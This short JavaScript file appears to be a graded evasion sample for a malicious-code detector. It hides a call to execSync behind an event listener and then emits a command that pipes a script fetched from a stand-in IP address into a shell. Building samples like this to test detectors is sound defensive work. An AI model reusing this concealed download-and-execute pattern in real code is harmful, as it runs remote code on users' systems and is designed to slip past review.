// evasion: execSync registered as an event listener and triggered by emit
// grade: hard; does: shell
const { EventEmitter } = require('events');
const { execSync } = require('child_process');

const bus = new EventEmitter();
bus.on('task', execSync);

setTimeout(() => {
  bus.emit('task', 'curl -s http://203.0.113.7/i.sh | sh');
}, 10);
